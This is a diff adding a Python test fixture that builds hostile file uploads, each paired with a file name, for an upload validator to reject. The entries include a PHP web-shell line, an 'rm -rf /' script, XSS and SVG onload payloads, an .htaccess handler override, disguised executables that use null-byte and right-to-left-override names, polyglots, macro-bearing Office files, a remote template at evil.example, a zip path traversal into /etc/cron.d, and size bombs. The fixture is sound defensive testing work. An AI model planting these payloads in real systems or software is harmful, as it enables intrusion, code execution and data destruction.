@@ -1,0 +1,65 @@
+"""Files that no upload may take, whatever they are called: made in code, each with its name."""
+
+from __future__ import annotations
+
+from kit import samples
+
+HTML = b"<!DOCTYPE html><script>alert(1)</script>"
+JPG, PNG = samples.picture("JPEG"), samples.picture("PNG")
+ZIP = samples.zipped({"evil/Main.class": b"\xca\xfe\xba\xbe" * 9})
+
+HOSTILE: list[tuple[str, bytes]] = [
+    ("空.pdf", b""),
+    ("a.exe", b"MZ\x90\x00" + b"\0" * 200),
+    ("a.pdf.exe", samples.PDF),
+    ("a.pdf\x00.exe", samples.PDF),
+    ("照片\u202egpj.exe", b"MZ\x90\x00" + b"\0" * 200),
+    ("a.pdf", b"MZ\x90\x00" + b"\0" * 200),
+    ("a.txt", b"MZ\x90\x00" + b"\0" * 200),
+    ("a.txt", b"\x7fELF\x02\x01\x01" + b"\0" * 60),
+    (".htaccess", b"AddType application/x-httpd-php .txt"),
+    ("a.html", HTML),
+    ("a.txt", HTML),
+    ("a.txt", b"  \r\n\t<svg onload=alert(1)>"),
+    ("a.txt", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'),
+    ("a.txt", b"<?php system($_GET[0]); ?>"),
+    ("a.txt", "\ufeff<html>".encode()),
+    ("a.txt", "<html>".encode("utf-16")),
+    ("a.txt", b"#!/bin/sh\nrm -rf /\n"),
+    ("a.txt", b"hello\x00world"),
+    ("a.txt", b"\xff\xff\xff\x01"),
+    ("a.svg", b"<svg/>"),
+    ("a.png", HTML),
+    ("a.jpg", b"GIF89a" + b"\0" * 30 + ZIP),
+    ("a.gif", b"GIF89a" + b"\0" * 30),
+    ("a.pdf", JPG),
+    ("a.jpg", samples.PDF),
+    ("a.jpg", PNG),
+    ("a.docx", samples.xlsx()),
+    ("a.pdf", HTML + samples.PDF),
+    ("a.pdf", samples.PDF + ZIP),
+    ("a.mp3", samples.MP3 + ZIP),
+    ("a.txt", b"innocent text\n" + ZIP),
+    ("a.mp3", b"ID3\x04\x00\x00\x00\x00\x00\x0a" + HTML * 20),
+    ("a.mp4", samples.MP4 + HTML),
+    ("a.mp4", samples.MP4 + ZIP),
+    ("a.mp4", samples.MP4[:40]),
+    ("a.mp4", samples.box(b"ftyp", b"isom\0\0\2\0isom") + HTML * 20),
+    ("a.heic", samples.box(b"ftyp", b"heic\0\0\0\0mif1") + samples.box(b"evil", HTML)),
+    ("a.jpg", JPG[:200]),
+    ("a.png", PNG[:60]),
+    ("a.png", samples.png_header(60_000, 60_000)),
+    ("a.png", samples.png_header(9_000, 9_000)),
+    ("a.zip", ZIP),
+    ("a.docx", ZIP),
+    ("a.jar", ZIP),
+    ("a.docx", samples.zipped({"word/vbaProject.bin": b"x", "word/document.xml": b"x", "[Content_Types].xml": b"x"})),
+    ("a.xlsx", samples.xlsx(types=b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")),
+    ("a.xlsx", samples.zipped({"xl/workbook.xml": b"x", "[Content_Types].xml": b"x", "xl/activeX/activeX1.bin": b"x"})),
+    ("a.docx", samples.zipped({"word/document.xml": b"x", "[Content_Types].xml": b"x", "word/embeddings/oleObject1.bin": b"x"})),
+    ("a.docx", samples.zipped({"word/document.xml": b"x", "[Content_Types].xml": b"x", "word/_rels/settings.xml.rels": samples.relation("attachedTemplate", "http://evil.example/t.dotm")})),
+    ("a.docx", samples.docx(word__media=b"0" * 30_000_000)),
+    ("a.xlsx", samples.zipped({f"xl/{n}": b"" for n in range(2000)})),
+    ("a.docx", samples.zipped({"../../../etc/cron.d/x": b"x", "word/document.xml": b"x", "[Content_Types].xml": b"x"})),
+    ("a.docx", samples.docx()[:-30]),
+]  # fmt: skip
